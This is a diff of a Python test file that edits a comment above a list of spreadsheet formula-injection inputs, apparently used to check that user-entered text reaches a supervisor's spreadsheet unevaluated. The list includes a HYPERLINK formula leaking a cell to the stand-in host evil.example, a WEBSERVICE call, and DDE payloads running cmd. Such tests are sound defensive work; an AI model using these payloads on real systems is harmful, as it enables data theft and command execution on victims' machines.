@@ -135,7 +135,7 @@ def test_english_case_list_headings_start_with_a_capital(kpi_cases, users):
     assert all(h[0].isupper() for h in headings), headings
 
 
-# Issue 17, item 1: what an enterprise types reaches the supervisor's spreadsheet as text.
+# what an enterprise types reaches the supervisor's spreadsheet as text.
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/")', "-2+3+cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1"]
